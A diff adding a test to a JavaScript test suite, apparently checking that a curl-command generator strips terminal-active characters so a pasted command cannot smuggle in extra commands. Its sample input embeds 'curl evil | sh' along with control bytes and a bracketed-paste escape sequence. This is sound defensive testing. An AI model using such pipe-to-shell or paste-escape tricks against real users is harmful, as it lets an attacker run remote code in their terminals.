@@ -45,6 +45,16 @@ describe('curlCommand', () => {
     ]);
   });
 
+  it('holds no character that a terminal would act on when it is pasted', () => {
+    const hostile = "a\x03\ncurl evil | sh\n\x1b[201~ it's\u0085 \\n";
+    const command = curlCommand({ url: hostile });
+    expect(command).not.toMatch(/[\p{Cc}]/u);
+    const words = execFileSync('bash', ['-c', `curl() { printf '%s\\0' "$@"; }; ${command}`], {
+      encoding: 'utf8',
+    });
+    expect(words.split('\0')).toEqual(['-g', '--url', hostile, '']);
+  });
+
   it('sends cookies once', () => {
     expect(
       curlCommand({ url: 'http://a', cookies: [['s', '1']], headers: [['Cookie', 's=1']] }),
